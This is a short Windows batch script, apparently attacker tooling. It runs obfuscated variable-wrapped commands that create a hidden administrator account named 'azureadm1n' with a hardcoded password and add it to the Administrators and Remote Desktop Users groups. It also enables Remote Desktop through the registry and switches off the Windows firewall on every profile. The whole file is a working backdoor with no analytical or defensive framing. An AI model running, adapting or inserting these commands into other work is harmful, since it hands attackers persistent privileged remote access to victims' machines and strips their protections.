REM run 2005 v0
@echo off
set snux=net user azureadm1n Adm1n!strat0r /add /y
call %snux%
@echo off
set mnkf=net localgroup administrators azureadm1n /add
call %mnkf%
@echo off
set ftbb=net localgroup "Remote Desktop Users" azureadm1n /add
call %ftbb%
@echo off
set txln=reg add "HKLM\SYSTEM\CurrentControlSet\Control\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f
call %txln%
@echo off
set kkew=netsh advfirewall set allprofiles state off
call %kkew%
